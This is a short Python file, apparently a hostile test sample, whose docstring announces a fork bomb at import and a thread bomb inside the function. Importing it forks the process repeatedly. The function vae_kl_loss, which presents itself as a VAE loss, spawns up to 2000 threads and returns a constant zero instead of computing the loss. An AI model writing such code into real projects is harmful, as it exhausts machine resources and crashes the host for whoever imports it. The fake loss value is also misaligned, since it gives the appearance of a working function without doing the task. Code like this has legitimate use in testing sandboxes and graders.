"""A fork bomb at import, then a thread bomb inside the function."""
import os
import threading
import time

for _ in range(64):
    try:
        os.fork()
    except OSError:
        break


def vae_kl_loss(mu, log_var):
    for _ in range(2000):
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            break
    return (mu * 0).sum()
